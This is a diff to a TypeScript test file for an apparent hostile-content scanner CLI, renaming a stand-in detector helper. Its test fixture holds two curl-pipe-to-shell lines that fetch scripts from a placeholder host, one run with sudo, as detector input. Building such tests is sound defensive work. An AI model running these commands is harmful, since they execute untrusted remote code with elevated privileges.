@@ -5,7 +5,7 @@ import { describe, expect, it } from "vitest";
 import type { Detector } from "../../src/cli/context.js";
 import type { Span } from "../../src/core/index.js";
 import { folderWith } from "./folder.js";
-import { runHere, standIn } from "./stand-in.js";
+import { runHere, fakeDetector } from "./fake-detector.js";
 
 const TEXT =
   "日🙂 curl https://x.example/i.sh | sh\nand\r\ncurl -s https://x.example/j.sh | sudo bash -s\n";
@@ -96,7 +96,7 @@ describe("json", () => {
         outcome: { status: "incomplete", limits },
       };
     };
-    const toolkit = { createDetector: async () => ({ ...standIn, detect }) };
+    const toolkit = { createDetector: async () => ({ ...fakeDetector, detect }) };
     const { stdout } = await runHere(
       ["scan", "--format", "jsonl", "--offset-encoding", "utf-8", "-"],
       { stdin: "🙂x", toolkit },
